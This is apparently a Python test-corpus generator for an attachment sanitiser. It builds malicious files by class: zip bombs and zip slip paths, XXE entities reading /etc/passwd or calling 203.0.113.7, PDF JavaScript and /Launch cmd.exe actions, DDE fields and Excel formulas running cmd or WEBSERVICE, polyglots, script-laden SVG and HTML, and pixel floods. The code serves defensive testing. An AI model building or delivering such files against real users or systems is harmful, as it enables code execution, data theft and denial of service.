"""Files that want to do harm, by class. Each is refused, or its canary is gone from what is kept."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

import pikepdf

from tests.attachments.corpus import making
from tests.attachments.corpus.making import (
    CANARY,
    EICAR,
    MAIN,
    box,
    document_of,
    office,
    office_parts,
    packed,
    pdf,
    picture,
    relation,
    relations,
    types_of,
    video,
)

OFFICE = ("docx", "xlsx", "pptx")


@dataclass(frozen=True, slots=True, kw_only=True)
class Sample:
    """One file under its name. With ``canary`` it may be taken, if that is not in what is kept."""

    attack: str
    name: str
    content: bytes
    canary: bytes = b""


def corpus() -> list[Sample]:
    """All of them; the same at every call."""
    found: list[Sample] = []
    for attack, make in _CLASSES.items():
        for number, made in enumerate(make()):
            name, content, *canary = made
            found.append(
                Sample(
                    attack=attack,
                    name=name.replace("#", str(number)),
                    content=content,
                    canary=canary[0] if canary else b"",
                )
            )
    return found


Made = Iterator[tuple[str, bytes] | tuple[str, bytes, bytes]]


def _folder(kind: str) -> str:
    return MAIN[kind][0].partition("/")[0]


def _zip_bombs() -> Made:
    for kind in OFFICE:
        bomb = {f"{_folder(kind)}/bomb.xml": b"<a>" + b" " * 20_000_000 + b"</a>"}
        yield f"{kind}-ratio-#.{kind}", office(kind, parts=bomb)
        many = {f"{_folder(kind)}/p{number}.xml": b"<a/>" for number in range(1_001)}
        yield f"{kind}-members-#.{kind}", office(kind, parts=many)
        yield (
            f"{kind}-claims-#.{kind}",
            _claiming(office(kind, parts={"word/z.xml": "<a/>"}), size=210_000_000),
        )
        yield f"{kind}-understates-#.{kind}", _claiming(office(kind, parts=bomb), size=10)
        yield f"{kind}-overlap-#.{kind}", _overlapping(kind)


def spread(samples: list[Sample], most: int) -> list[Sample]:
    """At most so many of each class, evenly spread over its variants."""
    classes: dict[str, list[Sample]] = {}
    for sample in samples:
        classes.setdefault(sample.attack, []).append(sample)
    return [
        of[at * len(of) // min(most, len(of))] for of in classes.values() for at in range(min(most, len(of)))
    ]


def _claiming(content: bytes, *, size: int) -> bytes:
    """The last member says of itself that it is ``size`` bytes."""
    at = content.rindex(b"PK\x01\x02")
    return content[: at + 24] + struct.pack("<I", size) + content[at + 28 :]


def _overlapping(kind: str) -> bytes:
    """Two entries of the directory point to the same bytes."""
    content = bytearray(office(kind, parts={"a/x.xml": "<a/>", "a/y.xml": "<a/>"}))
    first, second = (
        content.rindex(b"PK\x01\x02", 0, content.rindex(b"PK\x01\x02")),
        content.rindex(b"PK\x01\x02"),
    )
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


def _quines() -> Made:
    inner = packed({"again.zip": b""}, method=zipfile.ZIP_STORED)
    for kind in OFFICE:
        yield f"quine-#.{kind}", office(kind, parts={f"{_folder(kind)}/again.xml": inner})
        yield f"quine-#.{kind}", packed({"r/r.zip": inner})


def _nested() -> Made:
    for kind in OFFICE:
        for start in (
            b"PK\x03\x04",
            b"Rar!\x1a\x07",
            b"7z\xbc\xaf\x27\x1c",
            b"\x1f\x8b\x08",
            b"BZh9",
            b"MSCF",
        ):
            yield (
                f"nested-#.{kind}",
                office(kind, parts={f"{_folder(kind)}/media/image1.png": start + bytes(40)}),
            )


def _entities() -> Made:
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "ha">' for n in range(10)
    )
    square = f'<!ENTITY a "{"a" * 50_000}">'
    for kind in OFFICE:
        for declared, used in ((laughs, "&l9;"), (square, "&a;" * 1_000), ('<!ENTITY a "b">', "")):
            head = f'<?xml version="1.0"?><!DOCTYPE x [{declared}]>'
            yield (
                f"entities-#.{kind}",
                office(kind, parts={MAIN[kind][0]: document_of(kind, used, head=head)}),
            )
        head = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]>'
        yield (
            f"entities-#.{kind}",
            office(kind, parts={MAIN[kind][0]: document_of(kind, "&a;", head=head).encode("utf-16")}),
        )


def _external_entities() -> Made:
    for kind in OFFICE:
        for address in ("file:///etc/passwd", "http://203.0.113.7/x", "\\\\203.0.113.7\\x"):
            head = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "{address}">]>'
            yield f"xxe-#.{kind}", office(kind, parts={MAIN[kind][0]: document_of(kind, "&e;", head=head)})
        outside = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://203.0.113.7/x.dtd">'
        yield f"xxe-#.{kind}", office(kind, parts={MAIN[kind][0]: document_of(kind, head=outside)})
        yield f"xxe-#.{kind}", office(kind, parts={"_rels/.rels": outside + "<Relationships/>"})


def _slips() -> Made:
    for kind in OFFICE:
        for name in ("../evil.xml", "word/../../evil.xml", "/etc/evil.xml", "C:/evil.xml", "..\\evil.xml"):
            yield f"slip-#.{kind}", office(kind, parts={name: "<a/>"})


def _links() -> Made:
    for kind in OFFICE:
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w") as archive:
            for name, content in office_parts(kind).items():
                archive.writestr(name, content)
            link = zipfile.ZipInfo(f"{_folder(kind)}/link.xml")
            link.create_system, link.external_attr = 3, 0o120777 << 16
            archive.writestr(link, "/etc/passwd")
        yield f"link-#.{kind}", stream.getvalue()


def _duplicates() -> Made:
    for kind in OFFICE:
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w") as archive:
            for name, content in office_parts(kind).items():
                archive.writestr(name, content)
            archive.writestr(MAIN[kind][0].upper(), document_of(kind))
        yield f"twice-#.{kind}", stream.getvalue()


def _lying_directories() -> Made:
    for kind in OFFICE:
        plain = office(kind)
        yield f"lie-#.{kind}", plain.replace(MAIN[kind][0].encode(), MAIN[kind][0].encode().swapcase(), 1)
        yield f"lie-#.{kind}", b"PK\x03\x04" + bytes(26) + plain
        yield f"lie-#.{kind}", plain[:-2] + struct.pack("<H", 5) + b"hello"
        yield f"lie-#.{kind}", plain + b"<script>alert(1)</script>"
        yield f"lie-#.{kind}", _wrong_sum(plain)


def _wrong_sum(content: bytes) -> bytes:
    at = content.rindex(b"PK\x01\x02")
    return content[: at + 16] + b"\1\2\3\4" + content[at + 20 :]


def _polyglots() -> Made:
    archive = packed({"evil.html": CANARY})
    page = b"<html><script>" + CANARY + b"</script></html>"
    yield "jpeg-zip-#.jpg", picture() + archive, CANARY
    yield "jpeg-html-#.jpg", picture(comment=page), CANARY
    yield (
        "jpeg-script-#.jpg",
        b"\xff\xd8\xff\xe0" + struct.pack(">H", 2 + len(page)) + page + picture()[2:],
        CANARY,
    )
    yield "png-zip-#.png", picture("PNG") + archive, CANARY
    yield "png-html-#.png", picture("PNG")[:8] + _chunk(b"teXt", page) + picture("PNG")[8:], CANARY
    yield "png-idat-#.png", picture("PNG") + page, CANARY
    yield "pdf-zip-#.pdf", pdf() + archive, CANARY
    yield "pdf-html-#.pdf", pdf().replace(b"\n", b"\n%" + page + b"\n", 1), CANARY
    yield "zip-pdf-#.pdf", archive + pdf()
    yield "html-pdf-#.pdf", page + pdf()
    yield "mp4-zip-#.mp4", video(at_end=archive)
    yield "mp4-zip-in-free-#.mp4", video(at_end=box(b"free", archive)), CANARY
    yield "mp4-zip-in-data-#.mp4", video(hidden=archive), CANARY
    yield "mp4-html-#.mp4", video(in_index=box(b"udta", page)), CANARY
    yield "gif-js-#.jpg", b"GIF89a/*" + CANARY + b"*/=1;alert(1)"
    for kind in OFFICE:
        yield f"jpeg-{kind}-#.{kind}", picture() + office(kind)
        yield f"pdf-{kind}-#.{kind}", pdf() + office(kind)


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


_SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
_HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


def _disguises(content: bytes) -> Made:
    for name in ("photo.jpg", "photo.png", "paper.pdf", "paper.docx", "table.xlsx", "film.mp4"):
        yield name, content
        yield name, b"\xef\xbb\xbf" + content


def _svgs() -> Made:
    yield from _disguises(_SVG)
    yield "real.svg", _SVG
    for kind in OFFICE:
        yield f"inside-#.{kind}", office(kind, parts={f"{_folder(kind)}/media/image1.svg": _SVG})
        far = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://203.0.113.7/a.png"/></svg>'
        yield f"inside-#.{kind}", office(kind, parts={f"{_folder(kind)}/media/image1.svg": far})


def _pages() -> Made:
    yield from _disguises(_HTML)
    yield "page.html", _HTML
    for kind in OFFICE:
        yield f"inside-#.{kind}", office(kind, parts={f"{_folder(kind)}/afchunk.mht": _HTML})


def _programs() -> Made:
    for start in (
        b"MZ\x90\0" + bytes(60),
        b"\x7fELF" + bytes(60),
        b"#!/bin/sh\nid\n",
        b"\xca\xfe\xba\xbe" + bytes(60),
    ):
        for name in ("photo.jpg", "paper.pdf", "film.mp4", "paper.docx"):
            yield name, start
    for name in ("run.exe", "run.pdf.exe", "run.js", "run.lnk", "run.hta", "run", "run.jpg.", ".jpg"):
        yield name, b"MZ" + bytes(60)


def _scripts() -> Made:
    def action() -> pikepdf.Dictionary:
        return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))

    def opening(paper: pikepdf.Pdf) -> None:
        paper.Root.OpenAction = action()

    def named(paper: pikepdf.Pdf) -> None:
        tree = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), action()]))
        paper.Root.Names = pikepdf.Dictionary(JavaScript=tree)

    def page(paper: pikepdf.Pdf) -> None:
        paper.pages[0].AA = pikepdf.Dictionary(O=action())

    def annotation(paper: pikepdf.Pdf) -> None:
        paper.pages[0].Annots = pikepdf.Array(
            [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action())]
        )

    def after(paper: pikepdf.Pdf) -> None:
        paper.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0]), Next=action())

    def stream(paper: pikepdf.Pdf) -> None:
        paper.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS=paper.make_stream(b"app.alert(1)")
        )

    def widget(paper: pikepdf.Pdf) -> None:
        field = pikepdf.Dictionary(
            FT=pikepdf.Name.Tx, T=pikepdf.String("t"), AA=pikepdf.Dictionary(K=action())
        )
        paper.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))

    def disguised(paper: pikepdf.Pdf) -> None:
        paper.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.JavaScript, JS="app.alert(1)", K=1, P=1, Type=pikepdf.Name.StructElem
        )

    for change in (opening, named, page, annotation, after, stream, widget, disguised):
        yield f"{change.__name__}-#.pdf", pdf(change)
        yield f"{change.__name__}-#.pdf", pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield "escaped-#.pdf", pdf(opening).replace(b"/JavaScript", b"/Java#53cript").replace(b"/JS", b"/#4aS")


def _launches() -> Made:
    for keys in (
        {"S": "/Launch", "F": "cmd.exe"},
        {"S": "/Launch", "Win": {"F": "cmd.exe"}},
        {"S": "/GoToR", "F": "\\\\203.0.113.7\\a.pdf"},
        {"S": "/SubmitForm", "F": "http://203.0.113.7/"},
        {"S": "/ImportData", "F": "a.fdf"},
    ):

        def action(keys: dict[str, object] = keys) -> pikepdf.Dictionary:
            rest = {name: value for name, value in keys.items() if name != "S"}
            return pikepdf.Dictionary(S=pikepdf.Name(str(keys["S"])), **rest)

        def change(paper: pikepdf.Pdf, action: Callable[[], pikepdf.Dictionary] = action) -> None:
            paper.Root.OpenAction = action()

        def pressed(paper: pikepdf.Pdf, action: Callable[[], pikepdf.Dictionary] = action) -> None:
            link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action())
            paper.pages[0].Annots = pikepdf.Array([link])

        yield "launch-#.pdf", pdf(change)
        yield "launch-#.pdf", pdf(pressed)

    def calls_home(paper: pikepdf.Pdf) -> None:
        paper.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.URI, URI=pikepdf.String("http://203.0.113.7/" + CANARY.decode())
        )

    def opens_file(paper: pikepdf.Pdf) -> None:
        uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file:///" + CANARY.decode()))
        paper.pages[0].Annots = pikepdf.Array(
            [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=uri)]
        )

    yield "home-#.pdf", pdf(calls_home), CANARY
    yield "file-#.pdf", pdf(opens_file), CANARY


def _embedded_in_papers() -> Made:
    def attached(paper: pikepdf.Pdf) -> None:
        paper.attachments["evil.exe"] = b"MZ"

    def pinned(paper: pikepdf.Pdf) -> None:
        file = pikepdf.Dictionary(
            Type=pikepdf.Name.Filespec, EF=pikepdf.Dictionary(F=paper.make_stream(b"MZ"))
        )
        paper.pages[0].Annots = pikepdf.Array(
            [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, FS=file)]
        )

    def portfolio(paper: pikepdf.Pdf) -> None:
        paper.Root.Collection = pikepdf.Dictionary(View=pikepdf.Name.D)

    def rich(paper: pikepdf.Pdf) -> None:
        paper.pages[0].Annots = pikepdf.Array(
            [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia)]
        )

    def elsewhere(paper: pikepdf.Pdf) -> None:
        stream = paper.make_stream(b"")
        stream.F = pikepdf.String("\\\\203.0.113.7\\a")
        paper.pages[0].Contents = stream

    for change in (attached, pinned, portfolio, rich, elsewhere):
        yield f"{change.__name__}-#.pdf", pdf(change)


def _forms() -> Made:
    def form(paper: pikepdf.Pdf) -> None:
        paper.Root.AcroForm = pikepdf.Dictionary(XFA=paper.make_stream(b"<xdp/>"), Fields=pikepdf.Array())

    yield "xfa-#.pdf", pdf(form)
    yield "xfa-#.pdf", pdf(form, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _locked() -> Made:
    yield "locked-#.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user="b"))
    yield "owner-#.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user=""))
    for kind in OFFICE:
        yield f"locked-#.{kind}", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
        content = bytearray(office(kind))
        at = content.rindex(b"PK\x01\x02")
        content[at + 8] |= 1
        yield f"flag-#.{kind}", bytes(content)
    for name in ("old.doc", "old.xls", "old.ppt"):
        yield name, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)


def _paper_bombs() -> Made:
    zeros = zlib.compress(bytes(220_000_000), 9)

    def flate(paper: pikepdf.Pdf) -> None:
        stream = paper.make_stream(b"")
        stream.write(zeros, filter=pikepdf.Name.FlateDecode)
        paper.pages[0].Contents = stream

    def twice(paper: pikepdf.Pdf) -> None:
        stream = paper.make_stream(b"")
        filters = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
        stream.write(zlib.compress(zeros, 9), filter=filters, decode_parms=None)
        paper.pages[0].Contents = stream

    def thrice(paper: pikepdf.Pdf) -> None:
        stream = paper.make_stream(b"")
        filters = pikepdf.Array([pikepdf.Name.FlateDecode] * 3)
        stream.write(zlib.compress(zlib.compress(zeros, 9)), filter=filters, decode_parms=None)
        paper.pages[0].Contents = stream

    def deep(paper: pikepdf.Pdf) -> None:
        inner = pikepdf.Array()
        for _ in range(90):
            inner = pikepdf.Array([inner])
        paper.Root.Deep = inner

    def flood(paper: pikepdf.Pdf) -> None:
        image = paper.make_stream(b"\0")
        image.update(
            {"/Subtype": pikepdf.Name.Image, "/Width": 100_000, "/Height": 100_000, "/BitsPerComponent": 1}
        )
        paper.pages[0].Resources.XObject = pikepdf.Dictionary(Im=image)

    for change in (flate, twice, thrice, deep, flood):
        yield f"{change.__name__}-#.pdf", pdf(change, compress_streams=False)


def _macros() -> Made:
    macro_types = {
        "docx": "application/vnd.ms-word.document.macroEnabled.main+xml",
        "xlsx": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
        "pptx": "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
    }
    for kind in OFFICE:
        folder = _folder(kind)
        yield f"vba-#.{kind}", office(kind, parts={f"{folder}/vbaProject.bin": b"x"})
        yield f"vba-#.{kind}", office(kind, parts={f"{folder}/VBAPROJECT.BIN": b"x"})
        yield (
            f"type-#.{kind}",
            office(kind, parts={"[Content_Types].xml": types_of(kind, main=macro_types[kind])}),
        )
        yield f"ribbon-#.{kind}", office(kind, parts={"customUI/customUI14.xml": "<customUI/>"})
        default = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        yield f"default-#.{kind}", office(kind, parts={"[Content_Types].xml": types_of(kind, more=default)})
    yield "sheet-#.xlsx", office("xlsx", parts={"xl/macrosheets/sheet1.xml": "<a/>"})
    for name in ("macro.docm", "macro.xlsm", "macro.pptm", "macro.xlsb", "macro.dotm"):
        yield name, office("docx")


def _live_data() -> Made:
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    for said in (
        "DDEAUTO c:\\\\windows\\\\cmd.exe",
        'DDE "a" "b"',
        "INCLUDETEXT \\\\203.0.113.7\\a",
        "LINK Excel.Sheet x",
    ):
        run = f"<w:r {w}><w:instrText>{said}</w:instrText></w:r>"
        yield "dde-#.docx", office("docx", run)
        cut = "".join(
            f"<w:r {w}><w:instrText>{letter}</w:instrText></w:r>" for letter in said.replace("&", "")
        )
        yield "dde-cut-#.docx", office("docx", f'<w:r {w}><w:fldChar w:fldCharType="begin"/></w:r>{cut}')
        simple = said.replace('"', "")
        yield "dde-simple-#.docx", office("docx", f'<w:fldSimple {w} w:instr="{simple}"/>')
    for formula in (
        "cmd|'/c calc'!A0",
        "=MSEXCEL|'\\..\\cmd.exe /c calc'!''",
        'WEBSERVICE("http://203.0.113.7")',
        'EXEC("cmd")',
        'RTD("a",,"b")',
    ):
        cell = f"<x:sheetData><x:row><x:c><x:f>{formula}</x:f></x:c></x:row></x:sheetData>"
        yield "formula-#.xlsx", office("xlsx", parts={"xl/worksheets/sheet1.xml": document_of("xlsx", cell)})
    yield "connection-#.xlsx", office("xlsx", parts={"xl/connections.xml": "<connections/>"})
    yield "query-#.xlsx", office("xlsx", parts={"xl/queryTables/queryTable1.xml": "<a/>"})
    a = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
    yield "program-#.pptx", office("pptx", f'<a:hlinkClick {a} action="ppaction://program"/>')
    yield "macro-#.pptx", office("pptx", f'<a:hlinkClick {a} action="ppaction://macro?name=x"/>')


def _external() -> Made:
    for kind in OFFICE:
        main = MAIN[kind][0]
        folder, _, file = main.rpartition("/")
        for what in ("attachedTemplate", "image", "oleObject", "frame", "subDocument", "externalLinkPath"):
            given = relations(relation(what, "http://203.0.113.7/a", external=True))
            yield f"external-#.{kind}", office(kind, parts={f"{folder}/_rels/{file}.rels": given})
        unc = relations(relation("hyperlink", "file://203.0.113.7/" + CANARY.decode(), external=True))
        yield f"unc-#.{kind}", office(kind, parts={f"{folder}/_rels/{file}.rels": unc}), CANARY
        script = relations(relation("hyperlink", "javascript:" + CANARY.decode(), external=True))
        yield f"script-#.{kind}", office(kind, parts={f"{folder}/_rels/{file}.rels": script}), CANARY
    yield "link-#.xlsx", office("xlsx", parts={"xl/externalLinks/externalLink1.xml": "<a/>"})


def _objects() -> Made:
    o = 'xmlns:o="urn:schemas-microsoft-com:office:office"'
    for kind in OFFICE:
        folder = _folder(kind)
        yield (
            f"ole-#.{kind}",
            office(kind, parts={f"{folder}/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + bytes(60)}),
        )
        yield f"package-#.{kind}", office(kind, parts={f"{folder}/embeddings/a.xlsx": packed({"a": b"b"})})
        yield f"activex-#.{kind}", office(kind, parts={f"{folder}/activeX/activeX1.xml": "<a/>"})
        yield f"element-#.{kind}", office(kind, f'<o:OLEObject {o} ProgID="Package"/>')
        yield f"part-#.{kind}", office(kind, parts={f"{folder}/strange.dat": b"\0\1\2"})
        yield (
            f"hidden-ole-#.{kind}",
            office(kind, parts={f"{folder}/media/image1.png": b"\xd0\xcf\x11\xe0" + bytes(60)}),
        )


def _truncated() -> Made:
    whole = {
        "photo.jpg": picture(size=(400, 300)),
        "photo.png": picture("PNG", size=(400, 300)),
        "paper.docx": office("docx"),
        "table.xlsx": office("xlsx"),
        "slides.pptx": office("pptx"),
        "film.mp4": video(),
    }
    for name, content in whole.items():
        for share in (0.1, 0.5, 0.9):
            yield name, content[: int(len(content) * share)]
    yield "paper.pdf", pdf()[:60]
    for name in (*whole, "paper.pdf"):
        yield name, b""


def _wrong_endings() -> Made:
    contents = {
        "jpg": picture(),
        "pdf": pdf(),
        "docx": office("docx"),
        "xlsx": office("xlsx"),
        "pptx": office("pptx"),
        "mp4": video(),
    }
    for named in contents:
        for kind, content in contents.items():
            if named != kind:
                yield f"{kind}-as-#.{named}", content


def _names() -> Made:
    canary = "\u202e"
    for name in (
        f"photo{canary}gpj.jpg",
        "\u2066photo\u2069.jpg",
        "ph\u200boto.jpg",
        "../../etc/photo.jpg",
        "..\\..\\photo.jpg",
        "C:\\photo.jpg",
        "photo\0.php.jpg",
        "photo\r\nSet-Cookie: a=b.jpg",
        "CON.jpg",
        "....jpg",
        " .jpg",
        "长" * 300 + ".jpg",
        "e" + "\u0301" * 200 + ".jpg",
        '"; filename=evil.html; a=".jpg',
        "<script>alert(1)</script>.jpg",
        "a" * 5_000 + ".jpg",
        "photo.jpg\u202e",
        "\ufeffphoto.jpg",
        "photo%2e%2e%2f.jpg",
        "Ｐhoto：stream.jpg",
    ):
        yield name, picture(), canary.encode()


def _floods() -> Made:
    for width, height in ((30_000, 30_000), (65_535, 65_535), (1_000_000, 100), (50_001, 1_001)):
        header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
        content = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header)
        yield "flood-#.png", content + _chunk(b"IDAT", zlib.compress(bytes(1_000_000))) + _chunk(b"IEND", b"")
    plain = bytearray(picture())
    at = plain.index(b"\xff\xc0")
    for side in (20_000, 65_500):
        plain[at + 5 : at + 9] = struct.pack(">HH", side, side)
        yield "flood-#.jpg", bytes(plain)
    text = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0))
    yield (
        "text-bomb-#.png",
        text + _chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(90_000_000))) + _chunk(b"IEND", b""),
    )


def _test_virus() -> Made:
    for name in ("eicar.jpg", "eicar.pdf", "eicar.docx", "eicar.com", "eicar.txt"):
        yield name, EICAR
    yield "eicar-#.pdf", pdf() + b"\n" + EICAR
    yield "eicar-#.pdf", pdf(lambda paper: setattr(paper.Root, "Note", paper.make_stream(EICAR * 40)))
    for kind in OFFICE:
        yield (
            f"eicar-#.{kind}",
            office(kind, parts={f"{_folder(kind)}/a.xml": b"<a><![CDATA[" + EICAR + b"]]></a>"}),
        )
    yield "eicar-#.mp4", video(at_end=box(b"free", EICAR))
    yield "eicar-#.jpg", picture() + EICAR


def _videos() -> Made:
    yield "pieces-#.mp4", video(at_end=box(b"moof", bytes(16)))
    yield "pieces-#.mp4", video(in_index=box(b"mvex", bytes(16)))
    yield "elsewhere-#.mp4", video(flags=0)
    yield "astray-#.mp4", video(shift=100_000)
    yield "astray-#.mp4", video(shift=70)
    deep = b""
    for _ in range(3_000):
        deep = box(b"edts", deep)
    yield "deep-#.mp4", video(in_track=deep + CANARY[:0]), b"no such thing"
    yield "short-box-#.mp4", video(at_end=struct.pack(">I4s", 4, b"free"))
    yield "long-box-#.mp4", video(at_end=struct.pack(">I4s", 2_000_000_000, b"free"))
    yield "no-picture-#.mp4", video().replace(b"vide", b"text")
    yield "two-indexes-#.mp4", video() + box(b"moov", b"")
    yield (
        "many-samples-#.mp4",
        video().replace(
            struct.pack(">4sIII", b"stsz", 0, 0, 4), struct.pack(">4sIII", b"stsz", 0, 1, 4_000_000_000)
        ),
    )
    yield "tiny-boxes-#.mp4", video(at_end=box(b"free") * 20_000)


def _places() -> Made:
    yield "photo-#.jpg", making.photo_with_place(), CANARY
    yield "photo-#.png", making.png_with_place(), CANARY
    yield "paper-#.pdf", making.pdf_with_place(), CANARY
    yield "film-#.mp4", making.video_with_place(), CANARY
    for kind in OFFICE:
        yield f"paper-#.{kind}", making.office_with_place(kind), CANARY


def _phone_formats() -> Made:
    for brand in (b"heic", b"heix", b"mif1", b"avif"):
        content = box(b"ftyp", brand + bytes(4) + brand) + bytes(60)
        yield f"{brand.decode()}-#.heic", content
        yield f"{brand.decode()}-#.jpg", content


def _noise() -> Made:
    dice = random.Random(7)
    wholes = {
        "jpg": picture(size=(200, 200)),
        "png": picture("PNG", size=(200, 200)),
        "docx": office("docx"),
        "mp4": video(),
    }
    for kind, whole in wholes.items():
        start = {"docx": 4, "mp4": 16}.get(kind, 8)
        for _ in range(4):
            yield f"noise-#.{kind}", whole[:start] + dice.randbytes(len(whole) - start)


_CLASSES = {
    "zip bomb": _zip_bombs,
    "quine zip": _quines,
    "nested archive": _nested,
    "entity expansion": _entities,
    "XXE": _external_entities,
    "zip slip": _slips,
    "zip link": _links,
    "zip duplicates": _duplicates,
    "zip directory that lies": _lying_directories,
    "polyglot": _polyglots,
    "svg in disguise": _svgs,
    "html in disguise": _pages,
    "program in disguise": _programs,
    "PDF JavaScript": _scripts,
    "PDF launch or send": _launches,
    "PDF embedded file": _embedded_in_papers,
    "PDF XFA": _forms,
    "PDF bomb": _paper_bombs,
    "encrypted or old format": _locked,
    "macro": _macros,
    "DDE and live data": _live_data,
    "external relationship": _external,
    "OLE and ActiveX": _objects,
    "truncated or empty": _truncated,
    "wrong extension": _wrong_endings,
    "hostile name": _names,
    "pixel flood": _floods,
    "EICAR": _test_virus,
    "video tricks": _videos,
    "place recorded": _places,
    "HEIC and AVIF": _phone_formats,
    "noise": _noise,
}
